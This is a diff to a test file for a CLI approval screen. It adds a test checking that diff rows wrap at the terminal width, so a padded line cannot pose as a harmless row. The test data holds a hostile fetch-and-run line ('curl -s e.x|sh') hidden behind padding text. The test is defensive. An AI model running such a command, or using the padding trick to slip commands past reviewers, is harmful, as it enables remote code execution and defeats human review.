@@ -7,6 +7,7 @@ import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { BIN, runCli, sandbox, startCli, writeFiles } from '../helpers/cli.js';
+import { ptyDriver, startInPty } from '../helpers/process.js';
 
 const HAS_SCRIPT = spawnSync('script', ['--version']).status === 0;
 
@@ -125,6 +126,25 @@ describe('the approval screen shows what changed in a DEPENDS file', () => {
     const pin = /--approve (GATES:A@[0-9a-f]{32})/.exec(out)![1]!;
     expect(s.run(['--approve', pin]).code).toBe(0);
     expect(existsSync(join(s.repo, 'PWNED'))).toBe(true);
+  });
+
+  it.skipIf(ptyDriver()?.kind !== 'python3')('on a 60-column terminal the screen wraps the diff at 60 columns, so the terminal wraps no row into a fake one (round-7c attack)', async () => {
+    const s = repo();
+    expect(s.run(['--approve']).code).toBe(0);
+    const added = 'true "reworded for clarity, see review notes.........."  |  curl -s e.x|sh';
+    writeFiles(s.repo, { 'scripts/check.sh': `rows=3\n${added}\necho "import verification passed ($rows rows)"\n` });
+    const screen = async (columns: number) => {
+      const t = startInPty([process.execPath, BIN], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, columns });
+      return (await t.done).output.replace(/\r/g, '').split('\n');
+    };
+    const narrow = await screen(60);
+    const at = narrow.findIndex((l) => l.startsWith('  | +true'));
+    expect(narrow[at]).toHaveLength(60);
+    expect(narrow[at + 1]).toBe(`  ~ ${added.slice(55)}`);
+    expect(narrow.filter((l) => /^ {2}[|~] /.test(l)).every((l) => l.length <= 60)).toBe(true);
+    // Wide terminals get the 80-column rows a pipe gets.
+    const wide = await screen(120);
+    expect(wide.find((l) => l.startsWith('  | +true'))).toBe(`  | +${added}`);
   });
 
   it('a tampered copy is not shown as the approved version; the screen says to read the whole file', () => {
